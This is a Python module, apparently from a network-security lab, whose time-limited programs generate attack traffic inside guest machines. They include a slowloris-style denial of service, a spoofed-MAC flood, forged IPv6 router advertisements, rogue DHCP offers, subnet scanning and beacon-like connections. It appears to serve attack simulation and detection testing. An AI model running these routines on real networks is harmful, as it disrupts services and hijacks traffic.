"""Small Python programs that run in guests, where no tool of the guests' image does what is wanted. Pure text.

Each is one shell word; what it needs to know follows as arguments. All end by themselves, and are ended by ``timeout``.
"""

import shlex

_SLOW_REQUESTS = """
import heapq, itertools, resource, socket, sys, time
address, rate, every, end = sys.argv[1], float(sys.argv[2]), float(sys.argv[3]), time.time() + float(sys.argv[4])
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
number = itertools.count()
held = []
due = now = time.time()
while now < end:
    if due <= now:
        due = max(due + 1 / rate, now - 1)
        if len(held) < most - 32:
            one = socket.socket()
            one.setblocking(False)
            one.connect_ex((address, 80))
            heapq.heappush(held, (now + 0.1, next(number), one, b"GET / HTTP/1.1\\r\\nHost: lab\\r\\n"))
    elif held and held[0][0] <= now:
        at, _, one, line = heapq.heappop(held)
        try:
            one.send(line)
            heapq.heappush(held, (now + every, next(number), one, b"X-a: b\\r\\n"))
        except BlockingIOError:
            heapq.heappush(held, (now + 0.5, next(number), one, line))
        except OSError:
            one.close()
    else:
        time.sleep(max(0, min(0.01, due - now)))
    now = time.time()
"""
_SINK = """
import select, socket, sys, time
end = time.time() + float(sys.argv[2])
listening = socket.socket()
listening.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listening.bind(("", int(sys.argv[1])))
listening.listen(64)
opened = [listening]
while time.time() < end:
    for one in select.select(opened, [], [], 0.5)[0]:
        try:
            if one is listening:
                opened.append(one.accept()[0])
            elif not one.recv(65536):
                opened.remove(one)
                one.close()
        except OSError:
            opened.remove(one)
"""
_UPLOAD = """
import socket, sys, time
address, port, rate, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
sending = socket.create_connection((address, port), 3)
sending.settimeout(1)
began = time.time()
sent = 0
while time.time() < began + seconds:
    try:
        sent += sending.send(bytes(8192))
    except OSError:
        break
    time.sleep(max(0.0, began + sent / rate - time.time()))
"""
_BEACON = """
import socket, sys, time
address, port, every, end = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), time.time() + float(sys.argv[4])
while time.time() < end:
    try:
        telling = socket.create_connection((address, port), 1)
        telling.sendall(bytes(64))
        telling.close()
    except OSError:
        pass
    time.sleep(every)
"""
_SPREADING = """
import ipaddress, socket, sys, time
network, port, rate, seconds = ipaddress.ip_network(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
began = time.time()
tries = 0
for host in network.hosts():
    if time.time() > began + float(seconds):
        break
    trying = socket.socket()
    trying.setblocking(False)
    trying.connect_ex((str(host), port))
    tries += 1
    time.sleep(max(0.02, began + tries / rate - time.time()))
    try:
        trying.send(b"GET / HTTP/1.0\\r\\n\\r\\n")
    except OSError:
        pass
    if tries % 2:
        trying.close()
"""
_FORGED_MAC = """
import socket, struct, sys, time
target_mac, source, target, rate, seconds = sys.argv[1:6]
udp = struct.pack(">HHHH", 4000, 9, 16, 0) + bytes(8)
ip = struct.pack(">BBHHHBBH", 69, 0, 20 + len(udp), 1, 0, 64, 17, 0)
ip += socket.inet_aton(source) + socket.inet_aton(target)
total = sum(struct.unpack(">10H", ip))
total = (total & 65535) + (total >> 16)
ip = ip[:10] + struct.pack(">H", ~total & 65535) + ip[12:]
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0))
began = time.time()
sent = 0
while time.time() < began + float(seconds):
    source_mac = bytes([2, 0, 0, 0, sent // 256 % 256, sent % 256])
    wire.send(bytes.fromhex(target_mac.replace(":", "")) + source_mac + bytes([8, 0]) + ip + udp)
    sent += 1
    time.sleep(max(0.0, began + sent / float(rate) - time.time()))
"""
_ROUTES = """
import socket, struct, sys, time
own, rate, end = bytes.fromhex(sys.argv[1].replace(":", "")), float(sys.argv[2]), time.time() + float(sys.argv[3])
sender = bytes.fromhex("fe80000000000000") + bytes([own[0] ^ 2]) + own[1:3] + bytes([255, 254]) + own[3:]
everybody = bytes.fromhex("ff020000000000000000000000000001")
body = bytes([134, 0, 0, 0, 64, 0, 7, 8]) + bytes(8) + bytes([1, 1]) + own
total = sum(struct.unpack(">32H", sender + everybody + struct.pack(">II", len(body), 58) + body))
total = (total & 65535) + (total >> 16)
total = (total & 65535) + (total >> 16)
body = body[:2] + struct.pack(">H", ~total & 65535) + body[4:]
head = bytes.fromhex("333300000001") + own + bytes.fromhex("86dd")
ip = bytes([96, 0, 0, 0]) + struct.pack(">HBB", len(body), 58, 255) + sender + everybody
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0))
while time.time() < end:
    wire.send(head + ip + body)
    time.sleep(1 / rate)
"""
_OFFERS = """
import socket, sys, time
end = time.time() + float(sys.argv[2])
serving = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
serving.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
serving.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
serving.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
serving.bind(("", 67))
offer = b"\\x02\\x01\\x06\\x00" + bytes(232) + b"\\x63\\x82\\x53\\x63\\x35\\x01\\x02\\xff"
while time.time() < end:
    serving.sendto(offer, ("255.255.255.255", 68))
    time.sleep(1 / float(sys.argv[1]))
"""

SOURCES = {
    "slow-requests": _SLOW_REQUESTS,
    "sink": _SINK,
    "upload": _UPLOAD,
    "beacon": _BEACON,
    "spreading": _SPREADING,
    "forged-mac": _FORGED_MAC,
    "routes": _ROUTES,
    "offers": _OFFERS,
}
_GRACE_S = 2.0


def program(name: str, *arguments: str, seconds: float) -> str:
    """A shell command that runs one of them for so long; its last argument is the seconds.

    Arguments are left to the shell of the lab: names like ``$ip_T`` are replaced before it sees them.
    """
    words = " ".join([*arguments, f"{seconds:g}"])
    return f"timeout {seconds + _GRACE_S:g} python3 -I -S -c {shlex.quote(SOURCES[name].strip())} {words}"
